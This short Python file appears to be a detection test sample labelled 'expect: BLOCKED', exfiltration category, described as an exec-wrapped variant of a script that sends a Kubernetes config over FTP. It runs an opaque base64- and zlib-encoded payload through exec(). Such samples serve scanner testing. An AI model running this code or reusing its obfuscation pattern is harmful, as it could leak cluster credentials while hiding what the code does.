# expect: BLOCKED category: exfiltration variant-of: risky/exfiltration/kube_config_ftp.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJw1jzkOAjEMRfucwgpNRkIWSwUSLQ0FiOUAGTBMYIijJMPScHYcDbj63/72kwdwCC3bU4LcEKy6mqKnTAmO7M/uAvygCMv9BpW7B44Zzjm0rv47TkoFmxtYiMSi8MrOm7+hV7D+1CWKRn90NQSNN2FoET1AV+rpZL8/i0IyejKa4gjH4ynOStB69u87d6mYl67AphIfAgfypmCkH+t+0AiupbkCKQlhyhxr5218G73br7e/v+RUn6y+2uRSwg==')))
